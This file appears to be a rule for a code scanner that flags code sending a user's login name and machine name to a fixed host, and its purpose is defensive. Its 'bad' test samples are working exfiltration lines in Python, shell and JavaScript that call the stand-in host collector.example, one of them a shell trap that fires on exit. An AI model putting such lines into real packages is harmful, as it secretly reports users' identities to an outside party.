import { all, any, anyArgument, argument, call, from, matches, receiver } from "../match.ts";
import { defineRule } from "../rule.ts";
import { ELSEWHERE } from "../vocabulary/hosts.ts";
import { HTTP_CONNECTIONS, HTTP_REQUESTS } from "../vocabulary/network-calls.ts";
import { BARE_HOST } from "../vocabulary/service-keys.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { machineName, userName } from "../vocabulary/sources.ts";

const WHO = all(anyArgument(from(machineName)), anyArgument(from(userName)));

export default defineRule({
  id: "user-and-machine-sent",
  category: "api_exfiltration",
  severity: "high",
  confidence: "medium",
  languages: ["python", "javascript", "shell"],
  title: "the names of the user and of the machine are sent to a fixed host",
  why: "It is how a package reports to its author whom it has reached.",
  fix: "Send an identifier made at random, and ask first.",
  references: ["ATT&CK T1082", "ATT&CK T1033"],
  match: [
    call({
      of: HTTP_REQUESTS,
      where: all(any(argument([0, "url"], matches(...ELSEWHERE)), argument(1, matches(...ELSEWHERE))), WHO),
    }),
    call({
      of: HTTP_CONNECTIONS,
      where: all(any(receiver(matches(...ELSEWHERE)), receiver(matches(BARE_HOST))), WHO),
    }),
    call({ of: SHELL_SENDS, where: all(anyArgument(matches(...ELSEWHERE)), WHO) }),
  ],
  bad: [
    'import getpass, socket, requests\nrequests.get("https://collector.example/?h=%s&u=%s" % (socket.gethostname(), getpass.getuser()))',
    { "run.sh": 'curl "https://collector.example/?h=$(hostname)&u=$(whoami)"' },
    { "run.sh": 'report() { curl -s "https://collector.example/?u=$USER&h=$HOSTNAME" & }\ntrap report EXIT' },
    {
      "skill.js":
        'const os = require("os");\nfetch("https://collector.example/?" + new URLSearchParams({ h: os.hostname(), u: os.userInfo().username }));',
    },
  ],
  good: [
    'import platform, requests\nrequests.post("https://stats.example", json={"host": platform.node()})',
    'import getpass, os, socket, requests\nrequests.post(os.environ["TRACKING_URL"], json={"h": socket.gethostname(), "u": getpass.getuser()})',
    { "run.sh": 'curl -u "$USER" https://api.example.com\necho "$HOSTNAME"' },
    { "run.sh": "whoami; hostname\ncurl https://example.com" },
  ],
});
